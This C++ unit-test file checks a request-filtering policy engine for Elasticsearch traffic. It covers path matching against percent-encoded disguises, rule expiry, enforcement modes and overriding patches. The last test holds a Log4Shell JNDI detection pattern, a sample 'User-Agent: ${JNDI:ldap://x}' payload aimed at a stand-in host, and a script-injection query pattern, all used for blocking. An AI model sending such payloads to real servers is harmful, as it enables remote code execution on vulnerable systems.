// What a rule may ask of a request beside its source and credentials, and what stands above the rules.
#include <gtest/gtest.h>

#include <optional>
#include <string>

#include "dataplane/policy/compiled.h"

namespace springlatch {
namespace {

using elasticsearch::Operation;
using http::Credentials;
using http::Method;

constexpr std::uint64_t second_ns = 1'000'000'000;
constexpr std::uint64_t now = 1'575'504'000 * second_ns;  // 2019-12-05
constexpr std::uint16_t office = 0;
constexpr std::uint16_t search = 0;
constexpr std::uint16_t redis = 1;

Rule rule(const std::string& id, Action action) {
    Rule result;
    result.id = id;
    result.zones = {office};
    result.services = {search};
    result.credentials = CredentialNeed::any;
    result.action = action;
    return result;
}

/// A policy and one worker's memory for it.
class Judge {
  public:
    explicit Judge(CompiledPolicy::Parts parts)
        : policy_(finished(std::move(parts))), scratch_(policy_.parts().patterns, 4096) {}

    Decision operator()(Method method, std::string_view path, std::uint64_t time_ns = now,
                        std::string_view query = "", std::string_view head = "") {
        PatternQuestion texts(scratch_, path, query, head);
        const elasticsearch::Meaning meaning = policy_.meaning_of(method, path);
        return policy_.decide(office, search,
                              {.method = method,
                               .operation = meaning.operation,
                               .credentials = Credentials::basic,
                               .time_ns = time_ns,
                               .flags = meaning.flags,
                               .endpoint = meaning.endpoint,
                               .texts = &texts});
    }
    [[nodiscard]] const CompiledPolicy& policy() const { return policy_; }

  private:
    static CompiledPolicy::Parts finished(CompiledPolicy::Parts parts) {
        auto paths = PatternSet::compile(parts.path_expressions, Extent::whole);
        EXPECT_TRUE(paths);
        parts.patterns.paths = std::move(*paths);
        return parts;
    }
    CompiledPolicy policy_;
    PatternScratch scratch_;
};

CompiledPolicy::Parts parts_with(std::vector<Rule> rules, std::vector<std::string> expressions = {}) {
    CompiledPolicy::Parts parts;
    parts.zone_names = {"office"};
    Service elasticsearch;
    elasticsearch.name = "search";
    elasticsearch.addresses = {{IpAddress::v4(1), IpAddress::v4(1), 0}};
    elasticsearch.ports = {9200};
    Service cache;
    cache.name = "redis";
    cache.protocol = ServiceProtocol::tcp;
    cache.addresses = {{IpAddress::v4(2), IpAddress::v4(2), 1}};
    cache.ports = {6379};
    parts.services = {elasticsearch, cache};
    parts.rules = std::move(rules);
    parts.path_expressions = std::move(expressions);
    parts.catalogue = elasticsearch::Catalogue(
        {{"GET",
          "/{index}/_search",
          Operation::read,
          {"search"},
          elasticsearch::endpoint_flag::script_possible},
         {"DELETE",
          "/{index}",
          Operation::manage,
          {"indices.delete"},
          elasticsearch::endpoint_flag::destructive},
         {"POST", "/{index}/_doc/_search", Operation::unknown, {"index", "search"}, 0}});
    return parts;
}

std::uint16_t api(const CompiledPolicy::Parts& parts, const char* name) {
    return parts.catalogue.api_index(name).value();
}

TEST(Paths, AllowWhatMatchesAsAWhole) {
    Rule logs = rule("logs", Action::allow);
    logs.paths = {0, 1};
    Judge judge(parts_with({logs}, {"/logs-[0-9]+/_search", "/"}));
    EXPECT_EQ(judge(Method::get, "/logs-1/_search").action, Action::allow);
    EXPECT_EQ(judge(Method::get, "/logs-1/_search/").action, Action::allow);
    EXPECT_EQ(judge(Method::get, "/").action, Action::allow);
    const Decision other = judge(Method::get, "/customers/_search");
    EXPECT_EQ(other.action, Action::reject);
    EXPECT_EQ(other.reason, Reason::operation_not_allowed);
}

TEST(Paths, ADisguisedPathIsNotAllowedAndNotMissed) {
    Rule secret = rule("secret", Action::reset);
    secret.paths = {0};
    Rule logs = rule("logs", Action::allow);
    logs.paths = {1};
    Judge judge(parts_with({secret, logs}, {"/secret(/.*)?", "/(logs|secret)/.*"}));
    for (const char* path : {"/secret/_search", "/%73ecret/_search", "/secr%65t/_search", "/secret/%0A"}) {
        EXPECT_EQ(judge(Method::get, path).rule, 0) << path;
    }
    EXPECT_EQ(judge(Method::get, "/logs/_search").rule, 1);
    EXPECT_EQ(judge(Method::get, "/logs/a%2Cb").rule, 1) << "what clients do encode";
    for (const char* path : {"/logs/%5fsearch", "/l%6fgs/_search"}) {
        EXPECT_NE(judge(Method::get, path).action, Action::allow) << path;
    }
}

TEST(Paths, WithoutTheTextARuleThatDeniesMatchesAndOneThatAllowsDoesNot) {
    for (const Action action : {Action::allow, Action::drop}) {
        Rule logs = rule("logs", action);
        logs.paths = {0};
        const Judge judge(parts_with({logs}, {"/logs"}));
        const Decision got = judge.policy().decide(office, search, {.method = Method::get, .time_ns = now});
        EXPECT_EQ(got.rule, action == Action::allow ? no_rule : 0);
        EXPECT_NE(got.action, Action::allow);
    }
}

TEST(Apis, MatchByAnyName) {
    CompiledPolicy::Parts parts = parts_with({rule("a", Action::allow)});
    parts.rules[0].apis = {api(parts, "search")};
    Judge judge(std::move(parts));
    EXPECT_EQ(judge(Method::get, "/c/_search").action, Action::allow);
    EXPECT_EQ(judge(Method::head, "/c/_search").action, Action::allow);
    EXPECT_EQ(judge(Method::delete_, "/c").action, Action::reject);
    EXPECT_EQ(judge(Method::get, "/c/_unheard_of").action, Action::reject);
    EXPECT_EQ(judge(Method::post, "/c/_doc/_search").action, Action::reject)
        << "on some servers it stores a document";
}

TEST(Apis, ADenialTakesWhatMayBeMeant) {
    CompiledPolicy::Parts parts = parts_with({rule("a", Action::drop), rule("b", Action::allow)});
    parts.rules[0].apis = {api(parts, "search")};
    Judge judge(std::move(parts));
    EXPECT_EQ(judge(Method::post, "/c/_doc/_search").rule, 0);
    EXPECT_EQ(judge(Method::delete_, "/c").rule, 1);
}

TEST(Flags, MatchAnyOfThem) {
    CompiledPolicy::Parts parts = parts_with({rule("a", Action::reject), rule("b", Action::allow)});
    parts.rules[0].flags =
        elasticsearch::endpoint_flag::destructive | elasticsearch::endpoint_flag::outbound_possible;
    Judge judge(std::move(parts));
    EXPECT_EQ(judge(Method::delete_, "/c").rule, 0);
    EXPECT_EQ(judge(Method::delete_, "/c").reason, Reason::operation_not_allowed);
    EXPECT_EQ(judge(Method::get, "/c/_search").rule, 1);
}

TEST(Expires, FromThenOnTheRuleIsNone) {
    Rule guest = rule("guest", Action::allow);
    guest.expires_ns = now + second_ns;
    Rule cache = rule("cache", Action::allow);
    cache.services = {redis};
    cache.expires_ns = now + second_ns;
    Judge judge(parts_with({guest, cache}));
    const CompiledPolicy& policy = judge.policy();
    EXPECT_TRUE(policy.expires());
    for (const std::uint64_t before : {now, now + second_ns - 1}) {
        EXPECT_EQ(judge(Method::get, "/c/_search", before).action, Action::allow);
        EXPECT_TRUE(policy.reachable(office, search, before));
        EXPECT_TRUE(policy.reachable(office, redis, before));
        EXPECT_EQ(policy.decide_connection(office, redis, before).action, Action::allow);
    }
    const std::uint64_t after = now + second_ns;
    EXPECT_EQ(judge(Method::get, "/c/_search", after).reason, Reason::source_not_allowed);
    EXPECT_FALSE(policy.reachable(office, search, after));
    EXPECT_FALSE(policy.reachable(office, redis, after));
    EXPECT_EQ(policy.decide_connection(office, redis, after).rule, no_rule);
}

TEST(Expires, ADenialThatIsOverLetsLaterRulesSpeak) {
    Rule freeze = rule("freeze", Action::drop);
    freeze.expires_ns = now;
    Judge judge(parts_with({freeze, rule("reads", Action::allow)}));
    EXPECT_EQ(judge(Method::get, "/c/_search", now - 1).rule, 0);
    EXPECT_FALSE(judge.policy().reachable(office, search, now - 1));
    EXPECT_EQ(judge(Method::get, "/c/_search", now).rule, 1);
    EXPECT_TRUE(judge.policy().reachable(office, search, now));
}

TEST(Modes, ARulesOwnBeatsTheServicesAndThatThePolicys) {
    Rule strict = rule("strict", Action::drop);
    strict.mode = Mode::enforce;
    strict.methods = 1U << static_cast<unsigned>(Method::delete_);
    Rule other = rule("other", Action::drop);
    other.methods = 1U << static_cast<unsigned>(Method::put);
    CompiledPolicy::Parts parts = parts_with({strict, other});
    parts.services[search].mode = Mode::observe;
    Judge judge(std::move(parts));
    EXPECT_EQ(judge(Method::delete_, "/c").mode, Mode::enforce);
    EXPECT_EQ(judge(Method::put, "/c").mode, Mode::observe);
    EXPECT_EQ(judge(Method::get, "/c").mode, Mode::observe) << "a denial by default";
    const CompiledPolicy& policy = judge.policy();
    EXPECT_EQ(policy.mode_of(redis), Mode::enforce);
    EXPECT_EQ(policy.mode_at(IpAddress::v4(1)), Mode::observe);
    EXPECT_EQ(policy.mode_at(IpAddress::v4(2)), Mode::enforce);
    EXPECT_EQ(policy.mode_at(IpAddress::v4(3)), Mode::enforce) << "something is enforced: in doubt, enforce";
    EXPECT_TRUE(policy.enforces_anything());
}

TEST(Modes, AnAddressIsObservedOnlyIfAllItsServicesAre) {
    CompiledPolicy::Parts parts = parts_with({});
    parts.mode = Mode::observe;
    parts.services[redis].addresses = parts.services[search].addresses;
    EXPECT_EQ(CompiledPolicy(parts_with({})).mode_at(IpAddress::v4(1)), Mode::enforce);
    parts.services[redis].mode = Mode::enforce;
    const CompiledPolicy policy(std::move(parts));
    EXPECT_EQ(policy.mode_at(IpAddress::v4(1)), Mode::enforce) << "a fragment has no port";
}

TEST(Patches, StandAboveTheRulesAndCarryTheirName) {
    CompiledPolicy::Parts parts = parts_with({rule("all", Action::allow)});
    auto queries = PatternSet::compile({"source=.*script"}, Extent::anywhere);
    auto heads = PatternSet::compile({"(?i)\\$\\{jndi:"}, Extent::anywhere);
    ASSERT_TRUE(queries && heads);
    parts.patterns.queries = *queries;
    parts.patterns.heads = *heads;
    Patch script;
    script.name = "script";
    script.methods = 1U << static_cast<unsigned>(Method::get);
    script.query = 0;
    Patch log;
    log.name = "log";
    log.head = 0;
    parts.patches = {script, log};
    Judge judge(std::move(parts));
    EXPECT_EQ(judge(Method::get, "/c/_search").action, Action::allow);
    const Decision got = judge(Method::get, "/c/_search", now, "source=%7B%22scr%69pt%22");
    EXPECT_EQ(got.action, Action::reject);
    EXPECT_EQ(got.reason, Reason::patched);
    EXPECT_EQ(judge.policy().rule_id(got.rule), "patch:script");
    EXPECT_EQ(judge(Method::post, "/c/_search", now, "source=script").reason, Reason::none)
        << "another method";
    EXPECT_EQ(judge.policy().rule_id(judge(Method::get, "/c", now, "", "User-Agent: ${JNDI:ldap://x}").rule),
              "patch:log");
}

}  // namespace
}  // namespace springlatch
